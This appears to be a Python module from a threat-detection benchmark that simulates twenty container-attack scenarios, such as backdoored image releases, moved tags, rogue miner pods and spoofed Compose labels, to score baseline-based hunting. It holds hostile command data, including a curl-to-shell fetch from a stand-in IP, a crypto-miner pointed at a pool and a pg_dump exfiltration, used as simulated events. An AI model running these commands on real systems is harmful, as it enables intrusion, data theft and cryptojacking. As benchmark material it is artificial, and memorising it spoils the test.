"""Plants the attacks of the week: twenty chains, each of which a hunt with a baseline must report as an alert.

Each attacker behaves as the workload does wherever he can, and adds what he came for. What a hunt without a baseline
can say of each is told beside it: a backdoored release of a trusted repository says nothing by itself.
"""

import random
from collections.abc import Callable

import msgspec

from bench.clock import HOUR, MINUTE, SECOND
from bench.estate import DAY, Release, Workload, compose_labels, content, new_container
from bench.habits import Act, Habits, Place, habits
from bench.happenings import BUILD_NAMESPACE, TOOLBOX, bare_pod, builder
from bench.life import ended
from bench.programs import Program
from bench.rollout import Rollout, Running
from bench.tale import Tale
from bench.world import Container, suffix

_FETCH = Program("/bin/sh", ("-c", "curl -fsSL http://198.51.100.23/x.sh | sh"))
_DUMP = Program("/usr/bin/pg_dump", ("-h", "10.201.7.10", "-U", "admin", "-f", "/srv/.%d"), "/srv", 999)
_MINER = Program("/srv/.cache/kworkerd", ("-o", "198.51.100.90:3333", "--threads", "4"), "/srv")
_SERVER = Place("api", 443, "", ("198.51.100.77",))
_POOL = Place("api", 3333, "pool.minexmr.example", ("198.51.100.90",))
_METADATA = Place("api", 80, "", ("169.254.169.254",))
_OTHER_DATABASE = Place("database", 5432, addresses=("10.201.7.10",))

_STAY_NS = 40 * MINUTE


class Raid(msgspec.Struct, frozen=True):
    """One attack."""

    begin_ns: int
    name: str
    kind: str
    target: str
    """The workload it hides in or beside: `NAMESPACE/KIND/NAME`."""
    is_again: bool
    """It is no attack of its own, but what the day before began: another container of the same content."""
    alone: str | None
    """`alert` where it is one without any baseline; None: it is nothing then, or (a tag that moved) `suspicious`."""
    told_by: Callable[[Tale], Container]


def _with(made: Release, build: str, *, tag: str = "", repository: str = "") -> Release:
    """Other content with the same habits: under the same reference, a new tag, or another repository."""
    image = made.image
    reference = f"{repository or image.repository}:{tag or image.tag}"
    return Release(content(reference, build, made.habits, image.profile.name), made.habits)


def _live(tale: Tale, rollout: Rollout, one: Running, deeds: tuple[Act, ...]) -> Container:
    """The container does what the workload does, and within ten minutes what the attacker came for."""
    container, rng = one.container, tale.rng
    for _ in range(12):
        at = container.started_ns + int((20 + 1500 * rng.random()) * SECOND)
        rollout.act(tale, one, one.release.habits.draw(rng), at)
    for deed in deeds:
        at = container.started_ns + int((45 + 500 * rng.random()) * SECOND)
        rollout.act(tale, one, deed, at, stage="behaviour")
    ended(tale, container, container.started_ns + _STAY_NS)
    return container


def _inside(rollout: Rollout, workload: Workload, tale: Tale, made: Release, deeds: tuple[Act, ...]) -> Container:
    """A further container of the workload, of other content, on the node of one that runs."""
    running = rollout.running[workload.number]
    node = running[0].container.node if running else None
    container = new_container(
        tale.rng, rollout.estate, workload, made.image, tale.begin_ns + 10 * SECOND, node=node, ordinal=len(running),
        group=suffix(tale.rng, 9) if workload.kind != "CronJob" else str(tale.begin_ns // MINUTE),
    )  # fmt: skip
    return _live(tale, rollout, rollout.start(tale, container, made, owner=workload), deeds)


def _content(deeds: tuple[Act, ...], *, tag: str = "", repository: str = "", same: bool = False) -> "_Told":
    """New content in the workload; `same`: the content that runs, which somebody broke into."""

    def told(rollout: Rollout, workload: Workload, tale: Tale) -> Container:
        now = workload.current
        made = now if same else _with(now, "evil", tag=tag, repository=repository)
        return _inside(rollout, workload, tale, made, deeds)

    return told


def _stranger(rollout: Rollout, workload: Workload, tale: Tale, *, name: str, container: str) -> Container:
    first = Program("/usr/local/bin/entry", ("--serve", "--port", "9000"), "/srv", 1000)
    quiet = Program("/usr/local/bin/entry", ("tick", "--slot", "%d"), "/srv", 1000)
    made_habits: Habits = habits(first, (), (quiet,), (1.0,))
    reference = f"docker.io/xmr-tools/exporter:1.{tale.begin_ns // SECOND % 90}"
    made = Release(content(reference, "0", made_habits, "exporter"), made_habits)
    pod = bare_pod(tale, workload.namespace, made, name=name, container=container)
    return _live(tale, rollout, rollout.start(tale, pod, made), (_FETCH, _MINER, _POOL))


def _beside(rollout: Rollout, workload: Workload, tale: Tale) -> Container:
    """An image nobody vouches for, in a pod of its own in the workload's namespace."""
    return _stranger(rollout, workload, tale, name="", container="")


def _double(rollout: Rollout, workload: Workload, tale: Tale) -> Container:
    """A pod without an owner, whose name looks as if the workload's Deployment had made it."""
    name = f"{workload.name}-{suffix(tale.rng, 9)}-{suffix(tale.rng, 5)}"
    return _stranger(rollout, workload, tale, name=name, container=workload.name)


def _labelled(*, is_named: bool) -> "_Told":
    """A plain container with Docker Compose's labels of an approved service; `is_named`: with its form of name, too."""

    def told(rollout: Rollout, workload: Workload, tale: Tale) -> Container:
        made = _with(workload.current, "evil", repository="docker.io/anon-dev/mirror")
        container = new_container(
            tale.rng, rollout.estate, workload, made.image, tale.begin_ns + 10 * SECOND, ordinal=8
        )
        container.labels = compose_labels(workload.namespace, workload.name, 9)
        if not is_named:
            container.name = "amazing_curie"
        return _live(tale, rollout, rollout.start(tale, container, made), (_FETCH, _SERVER))

    return told


def _build(rollout: Rollout, workload: Workload, tale: Tale) -> Container:
    """The company's own build image moved under its tag, and talks to one new destination."""
    made = builder(TOOLBOX, "evil")
    pod = bare_pod(tale, BUILD_NAMESPACE, made, account="runner")
    return _live(tale, rollout, rollout.start(tale, pod, made), (_SERVER,))


_Told = Callable[[Rollout, Workload, Tale], Container]
_ATTACKS: tuple[tuple[str, str, str | None, _Told], ...] = (
    ("moved-tag-egress", "trusted", None, _content((_SERVER,))),
    ("moved-tag-shell", "trusted", None, _content((_FETCH,))),
    ("moved-tag-metadata", "trusted", None, _content((_METADATA,))),
    ("moved-tag-job", "cron", None, _content((_FETCH, _SERVER))),
    ("moved-tag-build", "trusted", None, _build),
    ("backdoored-release-shell", "trusted", None, _content((_FETCH,), tag="9.9.1")),
    ("backdoored-release-egress", "trusted", None, _content((_SERVER,), tag="9.9.2")),
    ("inside-only-release", "steady", None, _content((_DUMP, _OTHER_DATABASE), tag="9.9.3")),
    ("inside-only-moved-tag", "steady", None, _content((_DUMP, _OTHER_DATABASE))),
    ("inside-only-approved", "public-steady", "alert", _content((_DUMP, _OTHER_DATABASE))),
    ("beside-1", "trusted", "alert", _beside),
    ("beside-2", "public", "alert", _beside),
    ("copied-name", "trusted", "alert", _double),
    ("set-image", "trusted", "alert", _content((_MINER, _POOL), repository="docker.io/xmr-tools/exporter")),
    ("poisoned-labels", "compose", "alert", _labelled(is_named=False)),
    ("poisoned-labels-and-name", "compose", "alert", _labelled(is_named=True)),
    ("backdoored-approved-shell", "public", "alert", _content((_FETCH,))),
    ("backdoored-approved-egress", "public", "alert", _content((_SERVER,), tag="9.9.4")),
    ("backdoored-approved-miner", "public", "alert", _content((_MINER, _POOL))),
    ("exploited-approved", "public", "alert", _content((_FETCH, _SERVER), same=True)),
)
_RETURNING = ("moved-tag-egress", "moved-tag-shell", "backdoored-release-shell", "backdoored-approved-egress")
"""Nobody acted on the first alert: the next day another container of that content starts."""


def _is_fit(workload: Workload, wanted: str) -> bool:
    if wanted == "cron":
        return workload.kind == "CronJob" and workload.is_trusted and workload.every_hours <= 4
    if wanted == "compose":
        return workload.kind == "ComposeService" and not workload.is_trusted
    if workload.kind not in ("Deployment", "DaemonSet"):
        return False
    if wanted.startswith("public"):
        return not workload.is_trusted
    return workload.is_trusted


def _order(workload: Workload, wanted: str) -> tuple[float, ...]:
    """The steadiest first, where a mature baseline is needed: many containers, few rare habits, few deploys."""
    if not wanted.endswith("steady"):
        return ()
    made = workload.current.habits
    return (-min(workload.replicas, 3), len(made.acts) / workload.busyness)


def plan_raids(rng: random.Random, rollout: Rollout, start_ns: int, days: int) -> list[Raid]:
    """All attacks, spread over the days after the first, each on a workload of its own."""
    free = list(rollout.estate.workloads)
    rng.shuffle(free)
    raids: list[Raid] = []
    for number, (name, wanted, alone, told) in sorted(
        enumerate(_ATTACKS), key=lambda entry: (not entry[1][1].endswith("steady"), entry[0])
    ):
        fit = sorted((one for one in free if _is_fit(one, wanted)), key=lambda one: _order(one, wanted))
        if not fit:
            raise ValueError(f"no workload is left for the attack {name}: more workloads are needed")
        target = fit[0]
        free.remove(target)
        day = 1 + number * 7 % 20 % max(days - 1, 1)
        at = start_ns + day * DAY + int((1 + 21 * rng.random()) * HOUR)
        kind = name.rstrip("-0123456789")
        path = f"{BUILD_NAMESPACE}/Pod/toolbox-" if told is _build else target.path
        bound = _bound(told, rollout, target)
        raids.append(Raid(at, name, kind, path, False, alone, bound))
        if name in _RETURNING and day + 1 < days:
            raids.append(Raid(at + DAY, f"{name}-again", kind, path, True, alone, bound))
    return sorted(raids, key=lambda raid: (raid.begin_ns, raid.name))


def _bound(told: _Told, rollout: Rollout, target: Workload) -> Callable[[Tale], Container]:
    return lambda tale: told(rollout, target, tale)
